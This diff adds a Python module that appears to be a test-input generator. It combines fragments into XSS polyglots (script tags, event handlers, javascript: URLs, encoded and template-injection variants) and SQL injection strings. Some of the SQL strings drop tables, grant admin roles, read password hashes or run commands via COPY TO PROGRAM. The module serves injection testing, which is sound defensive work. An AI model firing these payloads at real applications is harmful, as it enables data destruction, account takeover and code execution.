@@ -1,0 +1,86 @@
+"""Words that would like to be something else: scripts and statements, combined from fragments in a fixed order."""
+
+from __future__ import annotations
+
+import random
+from itertools import product
+
+# Each sets window.pwned when it runs, or makes an element that the pages have no use for.
+_CALLS = ("window.pwned=1", "pwned=1", "self['pwned']=1", "top.pwned=1", "(()=>{pwned=1})()", "eval('pwned=1')")
+_BREAKS = ("", '">', "'>", "</title>", "</textarea>", "</style>", "</script>", "-->", "]]>", "`", "\\x22>", "%00")
+_TAGS = (
+    "<script>{}</script>",
+    "<script/x>{}</script>",
+    "<ScRiPt>{}</sCrIpT>",
+    "<img src=x onerror={}>",
+    "<img src='x'onerror='{}'>",
+    "<svg onload={}>",
+    "<svg><animate onbegin={} attributeName=x>",
+    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
+    "<iframe src=javascript:{}></iframe>",
+    "<details open ontoggle={}>",
+    "<input autofocus onfocus={}>",
+    "<body onpageshow={}>",
+    "<video><source onerror={}></video>",
+    "<math href=javascript:{}>x</math>",
+    "<a href=javascript:{}>x</a>",
+    "<form action=javascript:{}><button>x</button></form>",
+    "<object data=javascript:{}></object>",
+    "<embed src=javascript:{}>",
+    "<style>@import 'javascript:{}'</style>",
+    "<base href=javascript:{}//>",
+    "<meta http-equiv=refresh content=0;url=javascript:{}>",
+    "<link rel=stylesheet href=javascript:{}>",
+    "<template><script>{}</script></template>",
+    "javascript:{}",
+    "JaVaScRiPt:{}//",
+    "data:text/html,<script>{}</script>",
+    "[x](javascript:{})",
+    "![x](javascript:{})",
+    "<https://x.example/onmouseover={}>",
+    "https://x.example/'onmouseover={}//",
+    "{{{{constructor.constructor('{}')()}}}}",
+    "${{{}}}",
+    "&lt;script&gt;{}&lt;/script&gt;",
+    "&#60;script&#62;{}&#60;/script&#62;",
+    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
+    "<!--><script>{}</script>",
+    "<noscript><p title='</noscript><script>{}</script>'>",
+    "<select><style></select><img src onerror={}></style>",
+)
+
+_QUOTES = ("'", '"', "`", "')", '")', "';", "\\'", "%27", "\u02bc", "1", "")
+_STATEMENTS = (
+    "OR 1=1",
+    "OR '1'='1",
+    "AND 1=0 UNION SELECT token_hash FROM visitors",
+    "UNION SELECT NULL,NULL,NULL",
+    "; DROP TABLE messages",
+    "; DELETE FROM conversations",
+    "; UPDATE agents SET role='admin'",
+    "; INSERT INTO facts VALUES('pwned','1')",
+    "; ATTACH DATABASE '/tmp/pwned.db' AS p",
+    "|| (SELECT password_hash FROM agents) ||",
+    "AND randomblob(100000000)",
+    "; SELECT pg_sleep(10)",
+    "; COPY facts TO PROGRAM 'id'",
+    "HAVING 1=1",
+    "LIKE '%",
+    "ESCAPE '",
+)
+_ENDS = ("", "--", "/*", "#", ";", "-- -", "'")
+
+
+def polyglots(count: int) -> list[str]:
+    """Return so many texts that would be markup or script where somebody forgot to escape them."""
+    return _some([b + t.format(c) for b, t, c in product(_BREAKS, _TAGS, _CALLS)], count)
+
+
+def statements(count: int) -> list[str]:
+    """Return so many texts that would be SQL where somebody pasted them into a statement."""
+    return _some([f"{q} {s}{e}" for q, s, e in product(_QUOTES, _STATEMENTS, _ENDS)], count)
+
+
+def _some(every: list[str], count: int) -> list[str]:
+    """Return `count` of them, spread over all fragments; the same ones each time."""
+    return random.Random(9).sample(every, count)
